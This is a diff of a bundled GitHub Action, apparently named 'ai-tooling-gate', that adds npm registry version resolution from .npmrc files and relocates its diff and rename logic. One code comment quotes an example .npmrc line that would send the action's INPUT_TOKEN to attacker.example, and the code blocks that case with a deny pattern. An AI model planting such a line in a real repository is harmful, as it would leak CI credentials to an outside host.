+        // A failed request is not remembered: the caller decides whether to retry.
+        packument.catch(() => options.packumentCache.delete(key));
+    }
+    return pick(await packument, parsed.fetchSpec ?? 'latest', { defaultTag: 'latest' }).version;
+}
+
+// EXTERNAL MODULE: external "node:fs"
+var external_node_fs_ = __nccwpck_require__(73024);
+// EXTERNAL MODULE: external "node:path"
+var external_node_path_ = __nccwpck_require__(76760);
+;// CONCATENATED MODULE: ./src/resolver/npmrc.ts
+// npm configuration for registry look-ups: the repository's `.npmrc`, the user's `.npmrc` and the
+// `npm_config_*` environment, reduced to what deciding where a package comes from and how to
+// authenticate needs. Everything else npm reads from these files is ignored on purpose: a look-up
+// must not read files named by config (certfile, cafile), run anything, or change behaviour in ways
+// a pull request could use.
+
+
+const PUBLIC_REGISTRY = 'https://registry.npmjs.org/';
+/** `.npmrc` files are small; a larger one is not a config file. */
+const MAX_NPMRC_BYTES = 256 * 1024;
+/** The auth settings npm-registry-fetch reads for a registry (`//host/path/:<key>`). */
+const AUTH_KEYS = ['_authToken', '_auth', 'username', '_password'];
+/**
+ * Environment variables a repository's `.npmrc` may never expand: the action's inputs (the GitHub
+ * token arrives as INPUT_TOKEN) and the runner's own credentials (ACTIONS_RUNTIME_TOKEN,
+ * ACTIONS_ID_TOKEN_REQUEST_TOKEN). Without this, a pull request could add
+ * `//attacker.example/:_authToken=${INPUT_TOKEN}` and have the gate send the token away.
+ */
+const FORBIDDEN_IN_PROJECT = /^(INPUT_|ACTIONS_)/i;
+const SCOPE = /^@[a-z0-9][a-z0-9._~-]*$/i;
+/** Parses `.npmrc` text (ini: `key = value`, `;`/`#` comments, quoted values) into entries. */
+function parseNpmrc(text) {
+    const entries = [];
+    const lines = text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/);
+    for (let i = 0; i < lines.length; i++) {
+        const line = lines[i].trim();
+        if (line === '' || line.startsWith(';') || line.startsWith('#') || line.startsWith('['))
+            continue;
+        const eq = line.indexOf('=');
+        const key = (eq < 0 ? line : line.slice(0, eq)).trim();
+        let value = eq < 0 ? 'true' : line.slice(eq + 1).trim();
+        if (value.length >= 2 && value.startsWith('"') && value.endsWith('"')) {
+            try {
+                const parsed = JSON.parse(value);
+                if (typeof parsed === 'string')
+                    value = parsed;
+            }
+            catch {
+                value = value.slice(1, -1);
+            }
+        }
+        else if (value.length >= 2 && value.startsWith("'") && value.endsWith("'")) {
+            value = value.slice(1, -1);
+        }
+        if (key !== '')
+            entries.push({ key, value, line: i + 1 });
+    }
+    return entries;
+}
+/** npm's `${VAR}` expansion (`${VAR?}` is empty when unset, `\${` is literal). */
+function expand(value, env, project) {
+    let missing = null;
+    let forbidden = null;
+    const out = value.replace(/(\\*)\$\{([^${}?]+)(\?)?\}/g, (whole, esc, name, optional) => {
+        if (esc.length % 2 === 1)
+            return whole.slice(1);
+        if (project && FORBIDDEN_IN_PROJECT.test(name)) {
+            forbidden ??= name;
+            return '';
+        }
+        const v = env[name];
+        if (v === undefined) {
+            if (!optional)
+                missing ??= name;
+            return esc;
+        }
+        return esc + v;
+    });
+    if (forbidden !== null)
+        return { forbidden };
+    if (missing !== null)
+        return { missing };
+    return { value: out };
+}
+/** A registry URL normalised to end in `/`, or null when it is not an http(s) URL. */
+function normalizeRegistry(raw) {
+    let url;
+    try {
+        url = new URL(raw.trim());
+    }
+    catch {
+        return null;
+    }
+    if (url.protocol !== 'http:' && url.protocol !== 'https:')
+        return null;
+    url.hash = '';
+    url.search = '';
+    if (!url.pathname.endsWith('/'))
+        url.pathname += '/';
+    return url.toString();
+}
+/** A registry URL fit for messages: no credentials, query or fragment. */
+function displayRegistry(registry) {
+    try {
+        const url = new URL(registry);
+        url.username = '';
+        url.password = '';
+        url.search = '';
+        url.hash = '';
+        return url.toString();
+    }
+    catch {
+        return '(invalid registry URL)';
+    }
+}
+function readOptional(path) {
+    try {
+        const buf = (0,external_node_fs_.readFileSync)(path);
+        if (buf.length > MAX_NPMRC_BYTES)
+            return null;
+        return buf.toString('utf8');
+    }
+    catch {
+        return null;
+    }
+}
+function envValue(env, name) {
+    const lower = name.toLowerCase();
+    for (const [k, v] of Object.entries(env))
+        if (k.toLowerCase() === lower && v !== undefined)
+            return v;
+    return undefined;
+}
+/**
+ * Reads the npm configuration that decides where packages are looked up, in npm's order of
+ * precedence: `registry` option, `npm_config_*` environment, the project `.npmrc`, the user
+ * `.npmrc` (`NPM_CONFIG_USERCONFIG`, else `$HOME/.npmrc` from `env`), the public registry.
+ * Never reads the machine's home directory unless `env` names it.
+ */
+function loadNpmConfig(options) {
+    const { env } = options;
+    const errors = [];
+    const secrets = [];
+    const scopes = new Map();
+    const auth = new Map();
+    let registry = null;
+    const userPath = envValue(env, 'npm_config_userconfig') ??
+        (env.HOME ? (0,external_node_path_.join)(env.HOME, '.npmrc') : env.USERPROFILE ? (0,external_node_path_.join)(env.USERPROFILE, '.npmrc') : undefined);
+    const projectText = options.projectNpmrc !== undefined ? options.projectNpmrc : readOptional((0,external_node_path_.join)(options.root, '.npmrc'));
+    // Lowest precedence first; later layers overwrite.
+    const layers = [
+        { text: userPath ? readOptional(userPath) : null, project: false, file: userPath ?? '' },
+        { text: projectText, project: true, file: '.npmrc' },
+    ];
+    for (const layer of layers) {
+        if (layer.text === null)
+            continue;
+        for (const { key, value: raw, line } of parseNpmrc(layer.text)) {
+            const isRegistry = key === 'registry' || (key.endsWith(':registry') && key.startsWith('@'));
+            const authKey = AUTH_KEYS.find((k) => key.startsWith('//') && key.endsWith(':' + k));
+            if (!isRegistry && !authKey)
+                continue;
+            const expanded = expand(raw, env, layer.project);
+            if ('forbidden' in expanded) {
+                // Only the repository's own file can be hostile; report it so the gate fails closed.
+                errors.push({
+                    file: layer.file,
+                    line,
+                    message: `${key} expands \${${expanded.forbidden}}: a repository's .npmrc may not use the action's or runner's secrets; the setting is ignored`,
+                });
+                continue;
+            }
+            if ('missing' in expanded)
+                continue; // npm would send the literal text; sending nothing is safer
+            const value = expanded.value;
+            if (isRegistry) {
+                const url = normalizeRegistry(value);
+                if (url === null) {
+                    if (layer.project)
+                        errors.push({
+                            file: layer.file,
+                            line,
+                            message: `${key} is not an http(s) URL; the setting is ignored`,
+                        });
+                    continue;
+                }
+                if (key === 'registry')
+                    registry = url;
+                else {
+                    const scope = key.slice(0, -':registry'.length).toLowerCase();
+                    if (SCOPE.test(scope))
+                        scopes.set(scope, url);
+                }
+            }
+            else if (authKey && value !== '') {
+                auth.set(key, value);
+                secrets.push(value);
+                if (authKey === '_auth')
+                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
+                if (authKey === '_password')
+                    secrets.push(Buffer.from(value, 'base64').toString('utf8'));
+            }
+        }
+    }
+    for (const [k, v] of Object.entries(env)) {
+        if (v === undefined)
+            continue;
+        const m = /^npm_config_(@[^:]+):registry$/i.exec(k);
+        if (m && SCOPE.test(m[1])) {
+            const url = normalizeRegistry(v);
+            if (url)
+                scopes.set(m[1].toLowerCase(), url);
+        }
+    }
+    const envRegistry = envValue(env, 'npm_config_registry');
+    if (envRegistry !== undefined && normalizeRegistry(envRegistry))
+        registry = normalizeRegistry(envRegistry);
+    if (options.registry !== undefined) {
+        const url = normalizeRegistry(options.registry);
+        if (url === null)
+            throw new Error(`registry "${options.registry}" is not an http(s) URL`);
+        registry = url;
+    }
+    for (const url of [registry, ...scopes.values()]) {
+        if (!url)
+            continue;
+        const u = new URL(url);
+        if (u.password)
+            secrets.push(decodeURIComponent(u.password));
+    }
+    return {
+        registry: registry ?? PUBLIC_REGISTRY,
+        scopes,
+        auth,
+        secrets: secrets.filter((s) => s.length >= 4),
+        errors,
+    };
+}
+/** The registry a package name is looked up in. */
+function registryFor(config, name) {
+    if (name.startsWith('@')) {
+        const scope = name.slice(0, name.indexOf('/')).toLowerCase();
+        const url = config.scopes.get(scope);
+        if (url)
+            return url;
+    }
+    return config.registry;
+}
+/** Replaces every known credential in a message (defence in depth: messages are built without them). */
+function scrub(message, secrets) {
+    let out = message;
+    for (const s of secrets)
+        if (out.includes(s))
+            out = out.split(s).join('***');
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/resolver/npm-resolver.ts
+// Resolves unpinned npm specs (`latest`, `^2.1.0`, `*`, nothing at all) to the version an install
+// would get now, by asking the registry the repository is configured for, the way npm does
+// (npm-registry-fetch for the packument, npm-pick-manifest for dist-tags, ranges and the `latest`
+// preference).
+
+
+
+
+
+
+
+const OFFLINE_NOTE = 'offline: not resolved';
+/** Look-ups in a row that get no answer at all from a registry before the rest skip it. */
+const UNREACHABLE_AFTER = 3;
+const MAX_VERSION_LENGTH = 256;
+/**
+ * Which look-up an unpinned npm registry component needs, or a reason it cannot have one, or
+ * null when the component is not the resolver's (pinned, not npm, not from a registry).
+ */
+function registryRequest(c) {
+    if (c.ecosystem !== 'npm' || c.version !== null || c.sourceKind !== 'registry')
+        return null;
+    let written = (c.spec ?? '').trim();
+    // An alias written whole (`npm:@scope/real@^1`): the part after the real name is the spec.
+    if (written.startsWith('npm:')) {
+        try {
+            const alias = npa_default()(written);
+            if (alias.type === 'alias' && alias.subSpec && alias.subSpec.name === c.name)
+                written = alias.subSpec.rawSpec;
+        }
+        catch {
+            return { reason: `spec "${c.spec}" is not a valid npm alias` };
+        }
+    }
+    const spec = written === '' ? 'latest' : written;
+    let parsed;
+    try {
+        parsed = npa_default().resolve(c.name, spec);
+    }
+    catch {
+        return { reason: `"${c.name}@${spec}" is not a valid npm package spec` };
+    }
+    // Only registry specs: anything else (git, file, URL) is not a registry look-up.
+    if (parsed.type !== 'tag' && parsed.type !== 'range' && parsed.type !== 'version') {
+        return { reason: `spec "${spec}" is not a dist-tag or a version range` };
+    }
+    return { name: c.name, spec };
+}
+/** Runs tasks with at most `limit` in flight. */
+function limiter(limit) {
+    let active = 0;
+    const queue = [];
+    const next = () => {
+        if (active >= limit)
+            return;
+        const start = queue.shift();
+        if (start) {
+            active++;
+            start();
+        }
+    };
+    return (task) => new Promise((resolve, reject) => {
+        queue.push(() => {
+            task()
+                .then(resolve, reject)
+                .finally(() => {
+                active--;
+                next();
+            });
+        });
+        next();
+    });
+}
+function failureOf(e) {
+    return typeof e === 'object' && e !== null ? e : {};
+}
+/** No HTTP answer at all: a timeout or a network error. */
+function isUnanswered(f, timedOut) {
+    if (timedOut || f.type === 'request-timeout')
+        return true;
+    if (f.statusCode !== undefined || f.type === 'invalid-json')
+        return false;
+    return (typeof f.code === 'string' && !['ETARGET', 'E404', 'E401', 'E403', RESPONSE_TOO_LARGE].includes(f.code));
+}
+function isRetryable(f, timedOut) {
+    if (timedOut)
+        return true;
+    if (f.statusCode !== undefined)
+        return f.statusCode === 408 || f.statusCode === 429 || f.statusCode >= 500;
+    if (f.code === 'E404' || f.code === 'ETARGET' || f.code === 'E401' || f.code === 'E403')
+        return false;
+    if (f.type === 'invalid-json' || f.code === RESPONSE_TOO_LARGE)
+        return false;
+    // Network errors (ECONNRESET, ECONNREFUSED, EAI_AGAIN, …).
+    return typeof f.code === 'string' && f.code.startsWith('E');
+}
+/** Why a look-up failed, in words that never carry the request's credentials. */
+function describe(f, timedOut, req, where, attempts, timeoutMs, maxBytes) {
+    const tries = attempts === 1 ? '1 attempt' : `${attempts} attempts`;
+    if (timedOut || f.type === 'request-timeout')
+        return `no answer from ${where} within ${timeoutMs} ms (${tries})`;
+    if (f.code === 'ETARGET')
+        return `no version of ${req.name} matches "${req.spec}" at ${where}`;
+    if (f.code === 'E404' || f.statusCode === 404)
+        return `${req.name} not found at ${where} (HTTP 404)`;
+    if (f.statusCode === 401 || f.statusCode === 403)
+        return `${where} refused the look-up of ${req.name} (HTTP ${f.statusCode}): missing or rejected credentials`;
+    if (f.code === RESPONSE_TOO_LARGE)
+        return `${where} answered ${req.name} with more than ${maxBytes} bytes (AITG_MAX_RESPONSE_BYTES)`;
+    if (f.type === 'invalid-json')
+        return `${where} answered ${req.name} with invalid JSON`;
+    if (f.statusCode !== undefined)
+        return `HTTP ${f.statusCode} from ${where} for ${req.name} (${tries})`;
+    if (typeof f.code === 'string' && /^[A-Z0-9_]{2,40}$/.test(f.code))
+        return `network error ${f.code} reaching ${where} (${tries})`;
+    return `look-up of ${req.name} at ${where} failed (${tries})`;
+}
+const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+/**
+ * Creates the npm resolver stage. Each distinct (name, spec) is looked up once per resolver (its
+ * caches and the registry settings last across calls: an audit calls it file by file); failures
+ * never throw: the component keeps `version: null` and `versionNote` says why.
+ */
+function createNpmResolver(options) {
+    const concurrency = Math.max(1, options.concurrency ?? 8);
+    const timeoutMs = Math.max(1, options.timeoutMs ?? 15_000);
+    const retries = Math.max(0, options.retries ?? 2);
+    const retryDelayMs = Math.max(0, options.retryDelayMs ?? 500);
+    const maxResponseBytes = Math.max(1, options.maxResponseBytes ?? (0,limits/* maxResponseBytesFromEnv */.Yb)(options.env));
+    const limit = limiter(concurrency);
+    // One packument request per package per resolver (a run): specs of one package are looked up one after
+    // the other, the first fills the in-memory packument cache and the rest read it; when
+    // the first fails for a reason that is about the package, the rest share that reason.
+    const packumentCache = new Map();
+    const lookups = new Map();
+    const lastOfPackage = new Map();
+    // A registry that answers nothing (down, blackholed) would cost every package the full
+    // timeout and retries; after a few look-ups in a row without an answer the rest skip it.
+    const unanswered = new Map();
+    // One size-bounded agent per registry (keep-alive within a run, proxies from the environment).
+    const agents = new Map();
+    const agentFor = (registry) => {
+        let a = agents.get(registry);
+        if (!a)
+            agents.set(registry, (a = limitedAgent(registry, maxResponseBytes, timeoutMs)));
+        return a;
+    };
+    // The registry settings, read once, on the first look-up; their errors are reported once.
+    let config;
+    return async (components) => {
+        const wanted = components.map(registryRequest);
+        if (!wanted.some((w) => w !== null)) {
+            return { components: [...components], stats: { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 } };
+        }
+        const stats = { lookups: 0, attempts: 0, resolved: 0, unresolved: 0 };
+        let errors = [];
+        if (config === undefined) {
+            config = options.offline
+                ? null
+                : loadNpmConfig({
+                    root: options.root,
+                    env: options.env,
+                    ...(options.registry !== undefined ? { registry: options.registry } : {}),
+                    ...(options.projectNpmrc !== undefined ? { projectNpmrc: options.projectNpmrc } : {}),
+                });
+            errors = config?.errors ?? [];
+        }
+        const settings = config;
+        const lookUp = async (cfg, req) => {
+            const registry = registryFor(cfg, req.name);
+            const agent = await agentFor(registry);
+            const where = displayRegistry(registry);
+            const spec = npa_default().resolve(req.name, req.spec).toString();
+            const down = unanswered.get(registry);
+            if (down && down.inARow >= UNREACHABLE_AFTER) {
+                return {
+                    reason: `skipped: ${where} gave no answer to ${down.inARow} look-ups in a row (last: ${down.last})`,
+                    byPackage: true,
+                };
+            }
+            let attempt = 0;
+            for (;;) {
+                attempt++;
+                stats.attempts++;
+                const controller = new AbortController();
+                let timedOut = false;
+                const timer = setTimeout(() => {
+                    timedOut = true;
+                    controller.abort();
+                }, timeoutMs);
+                try {
+                    const fetchOptions = {
+                        preferOnline: true,
+                        // No `cache`: nothing is written to disk and every run asks the registry afresh.
+                        fetchRetries: 0,
+                        timeout: timeoutMs,
+                        signal: controller.signal,
+                        userAgent: 'ai-tooling-gate',
+                        agent,
+                    };
+                    for (const [k, v] of cfg.auth)
+                        fetchOptions[k] = v;
+                    // The signal aborts the request; the race makes sure nothing waits past the timeout
+                    // even if some layer below does not honour it.
+                    const found = await Promise.race([
+                        pickedVersion(spec, { registry, packumentCache, fetchOptions }),
+                        new Promise((_, reject) => controller.signal.addEventListener('abort', () => reject(Object.assign(new Error('timed out'), { type: 'request-timeout' })))),
+                    ]);
+                    unanswered.delete(registry);
+                    const version = typeof found === 'string' ? found : '';
+                    if (version.length > MAX_VERSION_LENGTH || semver_default().valid(version) === null) {
+                        return { reason: `${where} answered ${req.name} with an invalid version` };
+                    }
+                    return { version, registry: where };
+                }
+                catch (e) {
+                    const f = failureOf(e);
+                    if (attempt <= retries && isRetryable(f, timedOut)) {
+                        clearTimeout(timer);
+                        await sleep(retryDelayMs * 2 ** (attempt - 1));
+                        continue;
+                    }
+                    const reason = describe(f, timedOut, req, where, attempt, timeoutMs, maxResponseBytes);
+                    if (isUnanswered(f, timedOut)) {
+                        const inARow = (unanswered.get(registry)?.inARow ?? 0) + 1;
+                        unanswered.set(registry, { inARow, last: reason });
+                    }
+                    else
+                        unanswered.delete(registry);
+                    return { reason, byPackage: f.code !== 'ETARGET' };
+                }
+                finally {
+                    clearTimeout(timer);
+                }
+            }
+        };
+        const outcomes = await Promise.all(wanted.map((w) => {
+            if (w === null)
+                return Promise.resolve(null);
+            if ('reason' in w)
+                return Promise.resolve(w);
+            if (settings === null)
+                return Promise.resolve({ reason: OFFLINE_NOTE });
+            const key = `${w.name}@${w.spec}`;
+            let p = lookups.get(key);
+            if (!p) {
+                const cfg = settings;
+                const previous = lastOfPackage.get(w.name) ?? Promise.resolve(null);
+                p = previous.then((before) => {
+                    if (before && 'reason' in before && before.byPackage)
+                        return before;
+                    stats.lookups++;
+                    return limit(() => lookUp(cfg, w)).catch((e) => ({
+                        reason: `look-up of ${w.name} failed: ${e instanceof Error ? e.message : String(e)}`,
+                    }));
+                });
+                lookups.set(key, p);
+                lastOfPackage.set(w.name, p);
+            }
+            return p;
+        }));
+        const secrets = settings?.secrets ?? [];
+        const out = components.map((c, i) => {
+            const outcome = outcomes[i];
+            const w = wanted[i];
+            if (!outcome || !w)
+                return c;
+            if ('version' in outcome && !('reason' in w)) {
+                stats.resolved++;
+                return {
+                    ...c,
+                    version: outcome.version,
+                    purl: (0,purl/* purlFor */.n)(c.ecosystem, c.name, outcome.version),
+                    versionNote: scrub(`resolved "${w.spec}" to ${outcome.version} from ${outcome.registry}`, secrets),
+                };
+            }
+            stats.unresolved++;
+            const reason = 'reason' in outcome ? outcome.reason : '';
+            return {
+                ...c,
+                versionNote: scrub(reason === OFFLINE_NOTE ? OFFLINE_NOTE : `not resolved: ${reason}`, secrets),
+            };
+        });
+        return { components: out, ...(errors.length > 0 ? { errors } : {}), stats };
+    };
+}
+
+;// CONCATENATED MODULE: ./src/resolver/index.ts
+
+
+/** Adapts a resolver to the audit's `resolve` hook: its errors join the scan's errors. */
+function auditResolveHook(resolver) {
+    return async (components, errors) => {
+        const result = await resolver(components);
+        if (result.errors)
+            errors.push(...result.errors);
+        return result.components;
+    };
 }
 
 
@@ -90988,316 +92310,8 @@ const inventoryJson = {
 var markdown = __nccwpck_require__(54369);
 // EXTERNAL MODULE: external "node:crypto"
 var external_node_crypto_ = __nccwpck_require__(77598);
-// EXTERNAL MODULE: ./src/inventory/engine.ts + 4 modules
-var engine = __nccwpck_require__(1722);
-// EXTERNAL MODULE: ./src/inventory/flows.ts
-var flows = __nccwpck_require__(67037);
-;// CONCATENATED MODULE: ./src/diff/renames.ts
-// Renames between base and head: which head path a base file moved to, so that a move keeps its
-// findings' identity (a move introduces nothing).
-
-function hasBlobIds(s) {
-    return typeof s.blobId === 'function';
-}
-/**
- * Adds the exact moves the known renames do not cover: a changed head file (of `headPaths`: the
- * ones whose pairing can matter) whose content is the content a base file of `basePaths` had,
- * where that base file is gone or changed at head.
- * GitHub's pull-request file list calls two swapped files "modified" (it does not break rewrites
- * as `git diff -B` does), and git does not break two similar files; their contents still pair
- * them. Content is named by blob id where both sources have them, else by a hash of the bytes
- * (at most `maxBytes`; a file that cannot be read pairs nothing). Each path pairs once.
- */
-async function withExactRenames(base, head, headPaths, basePaths, known, maxBytes) {
-    const out = new Map(known);
-    const wanted = [...new Set(headPaths)].filter((p) => !out.has(p)).sort();
-    if (wanted.length === 0)
-        return out;
-    const useIds = hasBlobIds(base) && hasBlobIds(head);
-    const id = async (s, p) => {
-        try {
-            if (useIds) {
-                const v = await s.blobId(p);
-                // A link that cannot be followed is not content.
-                return v === null || v.startsWith('link:') ? null : v;
-            }
-            const bytes = await s.read(p, maxBytes);
-            return bytes === null ? null : (0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex');
-        }
-        catch {
-            return null;
-        }
-    };
-    const takenFrom = new Set(known.values());
-    const headIds = new Map();
-    for (const p of wanted) {
-        const h = await id(head, p);
-        // A file whose content is what it was at base did not move here.
-        if (h !== null && (await id(base, p)) !== h)
-            headIds.set(p, h);
-    }
-    const wantedIds = new Set(headIds.values());
-    const baseIds = new Map();
-    for (const q of [...new Set(basePaths)].sort()) {
-        if (takenFrom.has(q))
-            continue;
-        const b = await id(base, q);
-        // A base file still there unchanged did not move (a copy is not a move).
-        if (b === null || !wantedIds.has(b) || (await id(head, q)) === b)
-            continue;
-        const list = baseIds.get(b);
-        if (list)
-            list.push(q);
-        else
-            baseIds.set(b, [q]);
-    }
-    for (const [p, h] of headIds) {
-        const from = baseIds.get(h)?.find((q) => q !== p && !takenFrom.has(q));
-        if (from === undefined)
-            continue;
-        out.set(p, from);
-        takenFrom.add(from);
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./src/diff/diff.ts
-// Diff mode: which findings a change introduces, keeps or removes, and which files it changes.
-
-
-
-
-/**
- * The identity of a finding across commits: rule, carrier, version (or the spec written when the
- * version is unknown) and file — never the line, so moving an entry is not introducing it. `file`
- * overrides the finding's own (a head file's path at base, when the change moved it).
- */
-function findingIdentity(f, file = f.location.file) {
-    const c = f.component;
-    return [f.ruleId, c.ecosystem, c.name, c.version === null ? `spec:${c.spec ?? ''}` : c.version, file].join('\u0000');
-}
-/**
- * Marks each head finding `introduced` (no finding of the same identity at base) or `unchanged`,
- * and adds each base finding with no counterpart at head as `removed`. Identities are counted, so
- * a second copy of an existing finding in the same file is introduced. A head finding in a file
- * the change moved (`renames`: head path → base path) is compared with the findings of the file's
- * base path, and says where it moved from (`movedFrom`).
- */
-function classifyFindings(base, head, renames = new Map()) {
-    const remaining = new Map();
-    for (const f of base) {
-        const k = findingIdentity(f);
-        const list = remaining.get(k);
-        if (list)
-            list.push(f);
-        else
-            remaining.set(k, [f]);
-    }
-    const out = [];
-    for (const f of head) {
-        const from = renames.get(f.location.file);
-        const list = remaining.get(findingIdentity(f, from));
-        const status = list && list.length > 0 ? 'unchanged' : 'introduced';
-        if (list && list.length > 0)
-            list.shift();
-        out.push({ ...f, status, ...(from !== undefined ? { movedFrom: from } : {}) });
-    }
-    for (const f of base) {
-        const list = remaining.get(findingIdentity(f));
-        if (list && list.includes(f))
-            out.push({ ...f, status: 'removed' });
-    }
-    return out;
-}
-/**
- * Detects components at head and at base, parsing each unchanged file once: a detector file is
- * re-detected at base only when it changed or when a file it read (`DetectInput.readFile`) did.
- * Reading the same inputs, a detector reads the same files, so the reads recorded at head are the
- * reads it made at base for every file taken as unchanged.
- */
-async function diffInventory(base, head, options = {}) {
-    const { changed: hint, nameFilter, parseEveryFile, renames: knownRenames, ...inventoryOptions } = options;
-    const maxBytes = options.limits?.maxFileBytes ?? 64 * 1024 * 1024;
-    const memo = new Map();
-    const isChanged = (path) => {
-        let p = memo.get(path);
-        if (!p) {
-            p = hint ? Promise.resolve(hint.has(path)) : contentDiffers(base, head, path, maxBytes);
-            memo.set(path, p);
-        }
-        return p;
-    };
-    // The text test first (one search of text already in memory), then whether the file changed:
-    // a changed file is always parsed, so that its errors fail the gate.
-    const namesCovered = (detector, text) => !nameFilter || !detector.namesInText || nameFilter.textMayName(text, detector.namesInText);
-    const headInv = await (0,engine/* inventory */.pf)(head, {
-        ...inventoryOptions,
-        ...(nameFilter && !parseEveryFile
-            ? {
-                shouldParse: async (path, detector, text) => namesCovered(detector, text) || (await isChanged(path)),
-            }
-            : {}),
-    });
-    // A file read through readFile may be one the change list does not cover (an ignored `.env`
-    // on disk in the CLI's work tree): it is compared directly as well.
-    const readMemo = new Map();
-    const isReadChanged = (path) => {
-        let p = readMemo.get(path);
-        if (!p) {
-            p = isChanged(path).then((c) => c || (hint ? contentDiffers(base, head, path, maxBytes) : false));
-            readMemo.set(path, p);
-        }
-        return p;
-    };
-    // The change list names paths as git sees them: a symlink whose target changed is not on it,
-    // nor is anything else git does not track as that path. A file it calls unchanged that holds
-    // a component the policy may match, or an error, is confirmed by its content (few files do).
-    const mayMatter = (r) => r.errors.length > 0 || r.components.some((c) => !nameFilter || nameFilter.mayMatch(c.ecosystem, c.name));
-    const dirty = new Set();
-    for (const [path, result] of headInv.byFile) {
-        if (await isChanged(path)) {
-            dirty.add(path);
-            continue;
-        }
-        if (hint && mayMatter(result) && (await contentDiffers(base, head, path, maxBytes, true))) {
-            dirty.add(path);
-            continue;
-        }
-        for (const read of result.reads) {
-            if (await isReadChanged(read)) {
-                dirty.add(path);
-                break;
-            }
-        }
-    }
-    // Detector files present at base only (deleted or renamed away): scanned at base.
-    const headFiles = new Set(headInv.files);
-    const detectorList = options.detectors;
-    const baseOnly = [];
-    const candidates = hint ? [...hint] : await base.list();
-    for (const path of candidates) {
-        if (headFiles.has(path))
-            continue;
-        if ((0,engine/* detectorsFor */.J9)(path, detectorList).length === 0)
-            continue;
-        baseOnly.push(path);
-    }
-    // Exact moves the change list does not pair, among the changed files whose pairing can matter:
-    // the ones holding a component the policy may match, or an error.
-    const pairable = new Set();
-    for (const [path, result] of headInv.byFile) {
-        if (result.errors.length > 0)
-            pairable.add(path);
-        for (const c of result.components)
-            if (!nameFilter || nameFilter.mayMatch(c.ecosystem, c.name))
-                pairable.add(c.location.file);
-    }
-    const changedPairable = [];
-    for (const p of pairable)
-        if (dirty.has(p) || (await isChanged(p)))
-            changedPairable.push(p);
-    const renames = await withExactRenames(base, head, changedPairable, hint ?? [...dirty, ...baseOnly], knownRenames ?? new Map(), maxBytes);
-    // A moved file that cannot be parsed is compared with its base path's errors, so that path is
-    // parsed at base whatever its text names.
-    const movedWithErrors = new Set();
-    for (const [path, result] of headInv.byFile) {
-        const from = renames.get(path);
-        if (from !== undefined && result.errors.length > 0)
-            movedWithErrors.add(from);
-    }
-    const toScanAtBase = [...new Set([...dirty, ...baseOnly])].sort();
-    // At base, a file that names nothing the policy covers holds no finding to compare with: its
-    // head side's findings (if any) are introduced either way.
-    const baseInv = await (0,engine/* inventory */.pf)(restrictedSource(base, toScanAtBase), {
-        ...inventoryOptions,
-        ...(nameFilter
-            ? {
-                shouldParse: (path, d, text) => namesCovered(d, text) || movedWithErrors.has(path),
-            }
-            : {}),
-    });
-    const errorKey = (file, e) => `${file}\u0000${e.line ?? 0}\u0000${e.message}`;
-    const baseErrorKeys = new Set(baseInv.errors.map((e) => errorKey(e.file, e)));
-    const baseComponents = [...baseInv.components];
-    // An unchanged file is judged on its own at base only when nothing built or ran it there: a
-    // caller added or removed by the change moves its findings between it and the caller.
-    const atBase = new Map();
-    for (const [path, result] of headInv.byFile)
-        if (!dirty.has(path))
-            atBase.set(path, result);
-    for (const [path, result] of baseInv.byFile)
-        atBase.set(path, result);
-    const droppedAtBase = (0,flows/* judgedByCallers */.lj)(atBase);
-    for (const [path, result] of headInv.byFile) {
-        if (dirty.has(path))
-            continue;
-        for (const c of (0,flows/* componentsWhere */.Qp)(result, droppedAtBase.has(path)))
-            baseComponents.push(c);
-    }
-    const headErrors = [];
-    for (const [path, result] of headInv.byFile) {
-        // A file moved with the same error it had at its base path: the error is not new.
-        const from = renames.get(path);
-        for (const e of result.errors) {
-            const fresh = dirty.has(path) && (from === undefined || !baseErrorKeys.has(errorKey(from, e)));
-            headErrors.push({ ...e, status: fresh ? 'introduced' : 'unchanged' });
-        }
-    }
-    return {
-        head: headInv,
-        baseComponents,
-        baseErrors: baseInv.errors,
-        headErrors: sortErrors(headErrors),
-        dirty: [...dirty].sort(),
-        baseFilesScanned: baseInv.filesScanned,
-        notParsed: headInv.notParsed,
-        renames,
-    };
-}
-function sortErrors(errors) {
-    return errors.sort((a, b) => (a.file < b.file ? -1 : a.file > b.file ? 1 : 0) ||
-        (a.line ?? 0) - (b.line ?? 0) ||
-        (a.message < b.message ? -1 : a.message > b.message ? 1 : 0));
-}
-/** A view of a source that lists only the given paths (which may not exist in it). */
-function restrictedSource(source, paths) {
-    return {
-        description: source.description,
-        list: () => Promise.resolve(paths),
-        read: (path, maxBytes) => source.read(path, maxBytes),
-    };
-}
-/**
- * Whether a path differs between the trees: by blob id when both sources have them, else by a
- * hash of the bytes. A path that cannot be read on a side (a symlink out of the tree, too large)
- * counts by its error, so the same unreadable file on both sides is unchanged (it warns) while a
- * newly unreadable one is changed (it fails closed).
- */
-async function contentDiffers(base, head, path, maxBytes, 
-/** Only bytes count: a side that cannot be read leaves the path as the change list has it. */
-readableOnly = false) {
-    const useIds = hasBlobIds(base) && hasBlobIds(head);
-    const [a, b] = await Promise.all([
-        fingerprint(base, path, maxBytes, useIds),
-        fingerprint(head, path, maxBytes, useIds),
-    ]);
-    // The same dangling link reads as "points outside" in git and "does not exist" on disk.
-    if (readableOnly && (a.startsWith('error:') || b.startsWith('error:')))
-        return false;
-    return a !== b;
-}
-async function fingerprint(source, path, maxBytes, useIds) {
-    try {
-        if (useIds)
-            return `id:${(await source.blobId(path)) ?? 'absent'}`;
-        const bytes = await source.read(path, maxBytes);
-        return bytes === null ? 'absent' : `sha256:${(0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex')}`;
-    }
-    catch (e) {
-        return `error:${e instanceof Error ? e.message : String(e)}`;
-    }
-}
-
+// EXTERNAL MODULE: ./src/diff/diff.ts + 1 modules
+var diff = __nccwpck_require__(5119);
 // EXTERNAL MODULE: ./src/catalog/index.ts
 var src_catalog = __nccwpck_require__(15799);
 // EXTERNAL MODULE: ./src/model/version.ts
@@ -91379,7 +92393,7 @@ function ruleFor(id, findings, declared) {
         },
     };
 }
-function sarif_fingerprint(parts) {
+function fingerprint(parts) {
     return (0,external_node_crypto_.createHash)('sha256').update(parts).digest('hex');
 }
